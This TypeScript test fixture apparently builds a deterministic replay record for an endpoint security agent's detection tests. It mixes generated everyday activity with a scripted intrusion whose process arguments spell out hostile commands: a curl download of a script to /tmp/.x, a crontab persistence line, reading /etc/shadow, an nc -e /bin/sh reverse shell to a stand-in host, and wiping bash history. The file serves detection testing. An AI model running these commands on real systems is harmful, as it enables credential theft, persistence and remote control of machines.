/**
 * A record that is the same on every machine: an hour and a half of a made-up workstation, with an intrusion and a hole
 * in it, all at fixed times. It reaches the console as any record does: sensor records, replayed into a real agent.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connectAgent } from './agent-client.ts';
import { socketPathOf } from '../../agent/api/socket-server.ts';
import { gapRecord } from '../../agent/audit/gap.ts';
import { dataPaths, lockDataDir, nextEpoch, protectDataDir } from '../../agent/data-dir.ts';
import type { FileInfo, NetworkInfo, ProcessInfo, SentinelEvent } from '../../agent/event.ts';
import { openIdentity } from '../../agent/identity/identity.ts';
import { encodeEvent } from '../../agent/sensors/encode.ts';
import { writeReplayFile } from '../../agent/sensors/replay-file.ts';
import { generateEvents } from '../../agent/sensors/workload.ts';
import { openWal } from '../../agent/wal/open.ts';
import { eventually } from './agent-process.ts';
import { type AgentProcess, startAgentProcess } from './packaged-agent.ts';

const SECOND = 1_000_000_000n;
const MINUTE = 60n * SECOND;
/** Boot clock of the first event, and what makes it 2026-03-14 09:00:00 UTC. */
const START_BOOT = 3600n * SECOND;
const WALL_OFFSET = BigInt(Date.UTC(2026, 2, 14, 9)) * 1_000_000n - START_BOOT;
const EVENTS = 2700;

/** Boot clock of the first event of the record. */
export const RECORDED_FROM_BOOT_NS = START_BOOT;

/** The fixed times as a query: what the agent says of itself now lies outside. */
export const RECORDED = 'since:2026-03-14T09:00:00Z until:2026-03-14T10:30:00Z';
/** Never let go, however long ago 2026 is; nothing sampled while a test looks. */
const KEEP_SETTINGS = {
  SENTINEL_TIMELINE_MAX_AGE_DAYS: '3650',
  SENTINEL_WAL_MAX_AGE_DAYS: '3650',
  SENTINEL_METRICS_INTERVAL_MS: '3600000',
};

export interface Stamped {
  event: SentinelEvent;
  bootNs: bigint;
}

/** Writes events to a replay file, in order of time. */
function writeEvents(path: string, events: readonly Stamped[], wallOffsetNs = WALL_OFFSET): void {
  const sorted = events.toSorted((a, b) => (a.bootNs < b.bootNs ? -1 : a.bootNs > b.bootNs ? 1 : 0));
  writeReplayFile(
    path,
    sorted.map(({ event, bootNs }) => encodeEvent(event, bootNs)),
    wallOffsetNs,
  );
}

/** Someone who comes in by ssh, fetches a program, makes it stay and takes a file away. */
class Story {
  readonly events: Stamped[] = [];
  #nowNs: bigint;
  #pid = 50_000;

  constructor(startNs: bigint) {
    this.#nowNs = startNs;
  }

  wait(ms: number): this {
    this.#nowNs += BigInt(ms) * 1_000_000n;
    return this;
  }

  add(
    process: ProcessInfo,
    type: SentinelEvent['type'],
    action: string,
    rest: Partial<SentinelEvent> = {},
  ): void {
    const event: SentinelEvent = {
      eventId: 0,
      type,
      action,
      lane: 'security',
      tsNs: 0n,
      severity: 'info',
      process,
      ...rest,
    };
    this.events.push({ event, bootNs: this.#nowNs });
  }

  /** A process that was already there. */
  root(executable: string, argv: string[]): ProcessInfo {
    const process = this.#make(undefined, executable, argv);
    this.add(process, 'process', 'snapshot');
    return process;
  }

  run(parent: ProcessInfo, executable: string, ...argv: string[]): ProcessInfo {
    const process = this.#make(parent, executable, argv);
    const { argv: _argv, executable: _executable, ...forked } = process;
    this.add({ ...forked, name: parent.name }, 'process', 'fork');
    this.wait(2);
    this.add(process, 'process', 'exec');
    return process;
  }

  end(process: ProcessInfo, exitCode = 0): void {
    this.add({ ...process, exitCode }, 'process', 'exit');
  }

  file(process: ProcessInfo, action: string, file: FileInfo): void {
    this.add(process, 'file', action, { file });
  }

  connect(process: ProcessInfo, dstIp: string, dstPort: number): void {
    const network: NetworkInfo = {
      protocol: 'tcp',
      srcIp: '10.0.0.5',
      srcPort: 41_872,
      dstIp,
      dstPort,
      direction: 'outbound',
    };
    this.add(process, 'network', 'connect', { network });
  }

  #make(parent: ProcessInfo | undefined, executable: string, argv: string[]): ProcessInfo {
    this.#pid += 7;
    return {
      pid: this.#pid,
      tid: this.#pid,
      startNs: this.#nowNs,
      ppid: parent?.pid ?? 1,
      parentStartNs: parent?.startNs ?? 1n,
      name: executable.slice(executable.lastIndexOf('/') + 1),
      executable,
      argv,
      cwd: '/root',
      uid: 0,
      euid: 0,
      gid: 0,
      loginuid: 0,
      sessionId: 3,
      cgroupId: '4000',
    };
  }
}

function intrusion(): Stamped[] {
  const story = new Story(START_BOOT + 42n * MINUTE);
  const sshd = story.root('/usr/sbin/sshd', ['sshd: root@pts/3']);
  const shell = story.wait(40).run(sshd, '/usr/bin/bash', '-bash');
  story.end(story.wait(3100).run(shell, '/usr/bin/id', 'id'));
  const curl = story
    .wait(8200)
    .run(shell, '/usr/bin/curl', 'curl', '-s', 'http://198.51.100.7/x.sh', '-o', '/tmp/.x');
  story.wait(60).connect(curl, '198.51.100.7', 80);
  story.wait(300).file(curl, 'write', { path: '/tmp/.x', op: 'write', bytes: 18_412, device: '253:0' });
  story.end(curl);
  story.end(story.wait(2900).run(shell, '/usr/bin/chmod', 'chmod', '755', '/tmp/.x'));
  const implant = story.wait(1500).run(shell, '/tmp/.x', '/tmp/.x', '--daemon');
  const decode = story.wait(120).run(implant, '/usr/bin/base64', 'base64', '-d', '/tmp/payload.b64');
  story.end(decode);
  const cron = story
    .wait(700)
    .run(implant, '/usr/bin/bash', 'sh', '-c', 'echo "* * * * * /tmp/.x" >> /etc/crontab');
  story.wait(5).file(cron, 'write', { path: '/etc/crontab', op: 'write', bytes: 18, device: '253:0' });
  story.end(cron);
  story.end(story.wait(400).run(implant, '/usr/bin/chattr', 'chattr', '+i', '/etc/ld.so.preload'));
  const cat = story.wait(2600).run(implant, '/usr/bin/cat', 'cat', '/etc/shadow');
  story.file(cat, 'open', { path: '/etc/shadow', op: 'open', inode: '5012', device: '253:0' });
  story.end(cat);
  const nc = story
    .wait(900)
    .run(implant, '/usr/bin/nc.openbsd', 'nc', '-e', '/bin/sh', '203.0.113.9', '4444');
  story.wait(30).connect(nc, '203.0.113.9', 4444);
  story.end(story.wait(31_000).run(shell, '/usr/bin/rm', 'rm', '-f', '/root/.bash_history'));
  story.wait(900).end(shell);
  return story.events;
}

/** The workload's users do not exist on every machine; these two do. */
function everyday(): Stamped[] {
  const events = [
    ...generateEvents({ seed: 7, count: EVENTS, eventsPerSecond: 0.5, startNs: START_BOOT, maxLive: 40 }),
  ];
  for (const { event } of events) {
    const user = (uid: number | undefined): number => (uid === 0 ? 0 : 33);
    if (event.process) {
      event.process.uid = user(event.process.uid);
      event.process.euid = user(event.process.euid);
    }
  }
  return events;
}

/** A data folder whose security log already states a hole. */
async function makeDataDir(): Promise<string> {
  const dataDir = mkdtempSync(join(tmpdir(), 'sentinel-record-'));
  const lock = lockDataDir(dataDir);
  protectDataDir(dataDir, undefined, lock.isOurs);
  const identity = openIdentity(dataDir);
  const { writer } = await openWal({
    dir: dataPaths(dataDir).securityLog,
    lane: 'security',
    deviceId: identity.deviceId,
    epoch: nextEpoch(dataDir),
  });
  const at = (minutes: number): bigint => START_BOOT + WALL_OFFSET + BigInt(minutes) * MINUTE;
  const gap = {
    lane: 'security' as const,
    cause: 'ring_full',
    count: 1204,
    hook: 'sched_process_exec',
    fromNs: at(58),
    toNs: at(61),
  };
  writer.append([gapRecord(gap, identity, gap.toNs)], true);
  await writer.whenDurable(writer.stats().lastSeq);
  await writer.close();
  lock.release();
  return dataDir;
}

/** Starts an agent that replays `events`, and waits until its timeline has them. */
export async function startOnEvents(dataDir: string, events: readonly Stamped[]): Promise<AgentProcess> {
  const replay = join(dataDir, 'events.replay');
  writeEvents(replay, events);
  const agent = await startAgentProcess({
    dataDir,
    args: ['--sensor', `replay:${replay}?rebase=0&rate=fast`, '--console', 'on'],
    env: KEEP_SETTINGS,
  });
  const api = await connectAgent(socketPathOf(dataDir));
  await eventually(`the timeline has all ${events.length} events`, async () => {
    const { buckets } = await api.call('events.histogram', { query: RECORDED, buckets: 1 });
    const seen = buckets.flatMap((bucket) => Object.values(bucket)).reduce((sum, n) => sum + n, 0);
    return seen >= events.length ? true : undefined;
  });
  api.close();
  return agent;
}

/** An agent with the whole record; its folder is the caller's to remove. */
export async function startOnRecord(): Promise<AgentProcess> {
  return startOnEvents(await makeDataDir(), [...everyday(), ...intrusion()]);
}
